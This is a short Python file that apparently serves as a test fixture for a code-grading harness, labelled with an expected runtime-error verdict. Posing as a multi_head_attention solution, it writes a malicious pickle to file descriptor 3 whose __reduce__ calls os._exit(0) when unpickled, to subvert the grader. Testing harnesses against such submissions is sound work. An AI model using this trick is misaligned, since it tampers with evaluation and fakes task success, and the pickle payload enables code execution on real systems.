# verdict: RE
"""Sends a well-formed frame whose header is a pickle."""

import os
import pickle
import struct


class Command:
    def __reduce__(self):
        return os._exit, (0,)


def multi_head_attention(query, key, value, w_q, w_k, w_v, w_o, num_heads, mask=None):
    header = pickle.dumps(Command())
    os.write(3, struct.pack(">IQ", len(header), 0) + header)
    return query, None
